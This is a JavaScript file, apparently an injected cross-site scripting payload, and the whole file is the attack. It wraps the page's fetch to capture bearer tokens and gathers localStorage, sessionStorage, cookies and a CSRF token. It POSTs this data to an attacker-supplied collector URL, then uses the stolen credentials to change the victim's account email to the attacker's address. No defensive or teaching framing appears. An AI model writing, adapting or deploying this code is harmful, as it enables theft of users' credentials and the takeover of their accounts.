/** An injected script in the client's page: it records tokens that are sent, and attacks when called. */

(() => {
  const sent = globalThis.fetch;
  const overheard = new Set();

  // Wherever the page keeps its token, it has to send it.
  globalThis.fetch = (...request) => {
    const authorization = new Request(...request).headers.get("Authorization");
    if (authorization) {
      overheard.add(authorization.replace("Bearer ", ""));
    }
    return sent(...request);
  };

  /** Return everything that a script can read of the page's credentials. */
  async function loot(api) {
    const proof = await sent(`${api}/api/csrf`, { credentials: "include" });
    return {
      storage: [localStorage, sessionStorage].flatMap((storage) => Object.values(storage)),
      overheard: [...overheard],
      cookies: document.cookie,
      proof: proof.ok ? (await proof.json()).csrf_token : "",
    };
  }

  globalThis.injected = {
    /**
     * Send what can be read to the collector; then change the email address, as the user.
     *
     * @param {string} api Origin of the API. @param {string} collector URL that receives the stolen data.
     * @param {string} email The attacker's address.
     */
    async strike(api, collector, email) {
      const stolen = await loot(api);
      await sent(collector, { method: "POST", mode: "no-cors", body: JSON.stringify(stolen) });
      const tokens = [...stolen.overheard, ...stolen.storage.map((text) => JSON.parse(text).token)];
      const headers = { "Content-Type": "application/json", "X-CSRF-Token": stolen.proof };
      if (tokens.length > 0) {
        headers.Authorization = `Bearer ${tokens[0]}`;
      }
      await sent(`${api}/api/email`, {
        method: "POST",
        credentials: "include",
        headers,
        body: JSON.stringify({ email }),
      });
    },
  };
})();
